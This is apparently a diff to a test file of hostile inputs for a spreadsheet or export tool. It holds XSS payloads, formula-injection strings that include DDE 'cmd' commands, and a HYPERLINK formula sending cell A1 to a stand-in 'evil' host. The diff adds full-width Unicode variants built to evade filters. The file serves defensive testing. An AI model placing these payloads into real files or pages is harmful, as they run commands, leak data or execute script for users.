@@ -47,7 +47,7 @@ XSS_VENDOR = "<script>window.__pwned='vendor'</script>悪意ベンダ"
 XSS_SHEET = "<img src=x onerror=window.__pwned=1>"  # a sheet name reaches lint cell addresses
 
 FORMULAS = ("=HYPERLINK(\"http://evil/\"&A1)", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1)", "\t=1", "\r=1",
-            "=1+1", "=cmd|' /C notepad'!'A1'")
+            "=1+1", "=cmd|' /C notepad'!'A1'", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)", "＝HYPERLINK(\"http://evil/\")")
 
 # Characters that break naive code: NUL, RTL override, emoji (astral), private use (外字), combining.
 ODD = ("NUL\x00byte", "RTL\u202eevil.exe\u202c", "絵文字🎌👨‍👩‍👧", "外字\ue000\uf8ff", "合成が\u3099")
